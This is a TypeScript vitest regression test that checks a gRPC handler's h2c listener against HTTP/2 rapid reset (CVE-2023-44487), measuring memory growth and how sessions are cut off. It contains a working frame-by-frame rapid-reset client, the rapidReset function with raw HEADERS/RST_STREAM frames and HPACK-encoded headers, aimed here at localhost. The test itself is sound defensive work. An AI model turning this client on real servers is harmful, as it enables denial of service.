// HTTP/2 rapid reset (CVE-2023-44487) against the handler's h2c listener: a client opens
// streams and resets each at once, so the server starts work for every stream while the
// client holds none open. The handler runs as a process of its own so its memory is
// measured alone. What is bounded is one client connection's reach; many clients, or
// one with many connections, are a flood for a rate limit in front of the service.
import { readFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { createClient } from "@connectrpc/connect";
import { createGrpcTransport } from "@connectrpc/connect-node";
import { HandlerService } from "@switchyard/contracts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually } from "../support/broker.ts";
import { startService, type ServiceProcess } from "../support/process.ts";
import { closedPort } from "../producer/support.ts";

/** Streams the attacker opens and resets, in all; every loop below is bounded by it. */
const ATTACK_STREAMS = 50_000;
/**
 * Streams per connection: well past what Node's defaults let through (about 1 000
 * before nghttp2's GOAWAY); what the server does not read it discards with the socket.
 */
const STREAMS_PER_CONNECTION = 10_000;
/** One client's connections, opened one after another: one client's attack, not a distributed flood. */
const ATTACK_CONNECTIONS = ATTACK_STREAMS / STREAMS_PER_CONNECTION;
/** Wall-clock bound on the whole attack. */
const ATTACK_MS = 30_000;
/**
 * The stated bound: the handler's peak resident memory grows by at most this much. With
 * Node's defaults each connection got over 1 000 streams dispatched before nghttp2's
 * reset limit sent GOAWAY, and this attack grew the handler by about 200 MB (162 to
 * 369 MB); with the listener's reset budget each connection is closed after about 100
 * streams and the growth measured 31-37 MB, mostly V8 growing its heap for the burst.
 */
const RSS_GROWTH_BOUND_MB = 100;

describe("h2c listener under HTTP/2 rapid reset", () => {
  let handler: ServiceProcess;

  beforeAll(async () => {
    // No broker needed: the RPC transports serve without one.
    handler = await startService("handler", { AMQP_URL: `amqp://guest:guest@127.0.0.1:${await closedPort()}/`, SHUTDOWN_GRACE_MS: "3000" });
  });
  afterAll(async () => {
    await handler?.stop();
  });

  it("keeps memory within the bound and serves another caller meanwhile", async () => {
    const client = createClient(HandlerService, createGrpcTransport({ baseUrl: handler.h2cUrl }));
    // Warm up first, so the baseline includes what serving itself needs.
    for (let i = 0; i < 200; i++) await client.handle({ work: { id: `warm-${i}` } });
    const baselineMb = memoryMb(handler.child.pid!, "VmRSS");

    const port = Number(new URL(handler.h2cUrl).port);
    const deadline = Date.now() + ATTACK_MS;
    let attacking = true;
    const attack = (async () => {
      const ends: ConnectionEnd[] = [];
      let sent = 0;
      try {
        while (sent < ATTACK_STREAMS && ends.length < ATTACK_CONNECTIONS && Date.now() < deadline) {
          const end = await rapidReset(port, Math.min(STREAMS_PER_CONNECTION, ATTACK_STREAMS - sent), deadline);
          ends.push(end);
          sent += end.streams;
        }
      } finally {
        attacking = false;
      }
      return { sent, ends };
    })();
    // Another caller, on its own connection, all through the attack. Each call has a
    // generous deadline; failing one fails the test.
    const served: string[] = [];
    const caller = (async () => {
      for (let i = 0; attacking || i < 3; i++) {
        const { receipt } = await client.handle({ work: { id: `during-${i}` } }, { timeoutMs: 10_000 });
        served.push(receipt!.workId);
      }
    })();
    const [{ sent, ends }] = await Promise.all([attack, caller]);
    // The handler saw the attack and cut the sessions short (it logs each one it closes).
    const cut = () => handler.lines.filter((line) => line.includes("resets streams too fast")).length;
    await eventually(() => cut() >= ends.length, 15_000).catch(() => undefined);
    const peakMb = memoryMb(handler.child.pid!, "VmHWM");
    console.info(
      `rapid reset: ${sent} streams over ${ends.length} connections, ${cut()} sessions closed by the handler's reset budget; ` +
        `handler RSS ${baselineMb.toFixed(0)} MB before, peak ${peakMb.toFixed(0)} MB; another caller served ${served.length} calls meanwhile`,
    );
    expect(cut()).toBe(ends.length);
    expect(peakMb - baselineMb).toBeLessThanOrEqual(RSS_GROWTH_BOUND_MB);
    expect(served.length).toBeGreaterThanOrEqual(3);
    expect(handler.child.exitCode).toBeNull();
    // And the listener still serves after the attack.
    expect((await client.handle({ work: { id: "after" } })).receipt?.workId).toBe("after");
  }, 90_000);
});

/** How one attacking connection ended. */
interface ConnectionEnd {
  /** Streams opened and reset on it. */
  streams: number;
  /** True when the server had closed it or sent GOAWAY by the time the attacker stopped writing. */
  byServer: boolean;
}

/**
 * One attacking connection, written frame by frame: a `node:http2` client cannot attack,
 * since it honours the server's stream limit and drops a stream reset before its HEADERS
 * were sent. Sends HEADERS then RST_STREAM(CANCEL) for stream after stream, in batches
 * that respect the socket's backpressure, until `max` streams, the deadline, or the
 * server closing the connection or sending GOAWAY.
 */
async function rapidReset(port: number, max: number, deadline: number): Promise<ConnectionEnd> {
  const socket: Socket = connect(port, "127.0.0.1");
  await new Promise((resolve, reject) => socket.once("connect", resolve).once("error", reject));
  let byServer = false;
  socket.on("close", () => (byServer = true)).on("error", () => (byServer = true));
  let settingsAcked = false;
  let pending = Buffer.alloc(0);
  socket.on("data", (chunk: Buffer) => {
    // Acknowledge the server's SETTINGS as a real client would, and watch for GOAWAY.
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) break;
      const [type, flags] = [pending[3], pending[4]!];
      if (type === FRAME.settings && !(flags & 1) && !settingsAcked) {
        settingsAcked = true;
        socket.write(frame(FRAME.settings, 1, 0));
      }
      if (type === FRAME.goaway) byServer = true;
      pending = pending.subarray(9 + length);
    }
  });
  socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(FRAME.settings, 0, 0)]));
  let streams = 0;
  while (!byServer && streams < max && Date.now() < deadline) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 100 && streams < max; i++, streams++) {
      const id = 1 + 2 * streams;
      batch.push(frame(FRAME.headers, END_HEADERS, id, HANDLE_HEADERS), frame(FRAME.rstStream, 0, id, CANCEL));
    }
    if (!socket.write(Buffer.concat(batch))) {
      await new Promise((resolve) => socket.once("drain", resolve).once("close", resolve));
    }
  }
  socket.destroy();
  return { streams, byServer };
}

const FRAME = { headers: 0x1, rstStream: 0x3, settings: 0x4, goaway: 0x7 } as const;
const END_HEADERS = 0x4;
const CANCEL = Buffer.from([0, 0, 0, 0x8]);

/** An HTTP/2 frame: 9-byte header, then the payload. */
function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** A gRPC call's request headers, HPACK-encoded without the dynamic table. */
const HANDLE_HEADERS = (() => {
  // "Literal header field without indexing", name from the static table (RFC 7541 6.2.2).
  const literal = (nameIndex: number, value: string) => {
    const bytes = Buffer.from(value);
    const name = nameIndex < 15 ? [nameIndex] : [0x0f, nameIndex - 15];
    return Buffer.concat([Buffer.from([...name, bytes.length]), bytes]);
  };
  return Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http (static table 3 and 6)
    literal(4, "/switchyard.v1.HandlerService/Handle"), // :path
    literal(1, "127.0.0.1"), // :authority
    literal(31, "application/grpc"), // content-type
  ]);
})();

/** A field of /proc/<pid>/status in MiB: VmRSS now, VmHWM the peak so far. */
function memoryMb(pid: number, field: "VmRSS" | "VmHWM"): number {
  const line = readFileSync(`/proc/${pid}/status`, "utf8")
    .split("\n")
    .find((entry) => entry.startsWith(`${field}:`));
  return Number(/(\d+) kB/.exec(line ?? "")?.[1]) / 1024;
}
